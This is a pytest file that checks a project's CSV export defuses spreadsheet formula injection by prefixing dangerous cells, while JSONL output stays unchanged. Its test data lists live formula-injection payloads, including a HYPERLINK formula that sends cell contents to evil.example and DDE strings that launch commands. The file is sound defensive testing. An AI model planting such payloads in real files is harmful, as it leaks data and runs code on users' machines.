"""CSV cells a spreadsheet would run as formulas are defused (adversarial probe, item 9)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import update

from marsad.export.records import EXPORT_FIELDS
from marsad.store.models import Document
from marsad.workspace import Workspace
from tests.commandline import marsad_here
from tests.export.test_records import populate

pytestmark = pytest.mark.adversarial

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("title", FORMULAS)
def test_formula_cells_are_prefixed_and_jsonl_is_untouched(
    workspace: Workspace, title: str
) -> None:
    populate(workspace)
    with workspace.database.session() as session:
        session.execute(update(Document).values(title=title))
    table = marsad_here(workspace.settings, "export", "documents", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(table)))
    assert rows and {row["title"] for row in rows} == {"'" + title}
    assert all(row["id"].isdigit() for row in rows)  # numbers are left alone
    lines = marsad_here(workspace.settings, "export", "documents").splitlines()
    assert {json.loads(line)["title"] for line in lines} == {title}
    assert list(rows[0]) == list(EXPORT_FIELDS["documents"])
